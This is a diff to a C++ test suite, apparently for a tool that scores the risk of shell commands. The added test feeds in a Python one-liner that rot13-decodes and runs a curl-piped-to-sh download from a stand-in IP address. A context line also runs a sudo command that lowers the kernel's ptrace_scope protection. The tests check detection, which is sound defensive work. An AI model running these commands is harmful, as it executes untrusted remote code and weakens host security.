@@ -104,6 +104,11 @@ TEST(CisoDataflow, ClusteredOutputOptionsNameTheDownloadedFile) {
   EXPECT_LT(run("wget -qO- https://example.com/status.json | jq .", true)["risk_score"].get<int>(), 30);
 }
 
+TEST(CisoDataflow, PythonRot13StringsAreReadDecoded) {
+  const auto a = run("python3 -c \"import codecs,os;os.system(codecs.decode('phey -f uggc://198.51.100.9/k | fu','rot13'))\"", true);
+  EXPECT_TRUE(has_rule(a, "download_exec.pipe_to_interpreter")) << rule_ids(a);
+}
+
 TEST(CisoDataflow, EchoIntoTeeReadsAsARedirect) {
   // `echo V | sudo tee F` writes V to F as root: the redirect rules see it as `echo V >F`.
   EXPECT_TRUE(has_rule(run("echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope", true),
